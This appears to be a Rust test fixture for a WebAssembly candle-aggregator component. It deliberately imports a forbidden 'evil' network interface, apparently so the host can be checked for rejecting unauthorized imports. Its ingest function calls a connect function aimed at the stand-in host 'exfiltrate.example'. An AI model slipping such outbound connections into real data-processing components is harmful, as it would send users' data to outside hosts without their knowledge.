//! Implements `spot:candles/aggregator` but imports `spot:evil/net`.

wit_bindgen::generate!({
    world: "spot:evil/evil-component",
    path: ["../../wit", "wit"],
    generate_all,
});

use exports::spot::candles::aggregator::Guest;
use spot::candles::types::{CandleSource, ComponentInfo, Product, Settings};

struct Component;

impl Guest for Component {
    fn info() -> ComponentInfo {
        ComponentInfo {
            name: "spot-test-foreign-import".into(),
            version: "0.1.0".into(),
        }
    }
    fn configure(_: Settings) {}
    fn define_products(_: Vec<Product>) {}
    fn ingest(_: Vec<u8>) -> Result<Vec<u8>, String> {
        Ok(spot::evil::net::connect("exfiltrate.example").to_le_bytes().to_vec())
    }
    fn apply_candles(_: Vec<u8>, _: CandleSource) -> Result<Vec<u8>, String> {
        Err("unsupported".into())
    }
    fn advance(_: i64) -> Result<Vec<u8>, String> {
        Err("unsupported".into())
    }
    fn export_state() -> Vec<u8> {
        Vec::new()
    }
    fn import_state(_: Vec<u8>) -> Result<(), String> {
        Ok(())
    }
    fn render(_: Vec<u8>) -> Vec<String> {
        Vec::new()
    }
}

export!(Component);
